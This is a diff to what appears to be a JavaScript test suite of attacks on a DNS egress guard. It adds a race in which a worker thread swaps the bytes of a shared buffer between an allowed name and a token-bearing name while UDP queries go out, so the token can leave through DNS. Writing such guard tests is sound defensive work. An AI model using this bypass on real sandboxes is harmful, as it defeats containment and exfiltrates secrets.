@@ -8,9 +8,9 @@ const name = (lab) => `${lab.token}.${lab.otherName}`;
 /** Short limits: if a guard blocks the query, the resolver fails soon. */
 const patience = { timeout: 400, tries: 1 };
 
-/** Returns a query for the name in wire format. */
-function query(lab) {
-  const labels = name(lab)
+/** Returns a query for a name in wire format. */
+function query(lab, asked = name(lab)) {
+  const labels = asked
     .split('.')
     .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
   return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
@@ -105,6 +105,29 @@ exports.attacks = {
         socket.on('error', failed);
         socket.connect(53, lab.nameserver, (error) => (error ? failed(error) : socket.send(query(lab), done)));
       }).finally(() => socket.close());
+    },
+  },
+  'a query by UDP to the name server, which a worker changes': {
+    means: ['worker'],
+    run: async (lab) => {
+      const texts = [query(lab, lab.allowedName), query(lab, `${lab.token}.co`)];
+      const memory = new SharedArrayBuffer(texts[0].length);
+      Buffer.from(memory).set(texts[0]);
+      const code = `
+        const { memory, texts } = require('node:worker_threads').workerData;
+        const bytes = new Uint8Array(memory);
+        for (const end = Date.now() + 2000; Date.now() < end; ) for (const text of texts) bytes.set(text);`;
+      const { Worker } = require('node:worker_threads');
+      const worker = new Worker(code, { eval: true, workerData: { memory, texts } });
+      const ended = new Promise((done) => worker.on('exit', done).on('error', done));
+      const socket = require('node:dgram').createSocket('udp4');
+      const end = Date.now() + 2000;
+      while (Date.now() < end) {
+        socket.send(Buffer.from(memory), 53, lab.nameserver, () => undefined);
+        await new Promise(setImmediate);
+      }
+      socket.close();
+      await ended;
     },
   },
   'a query by TCP to the name server': {
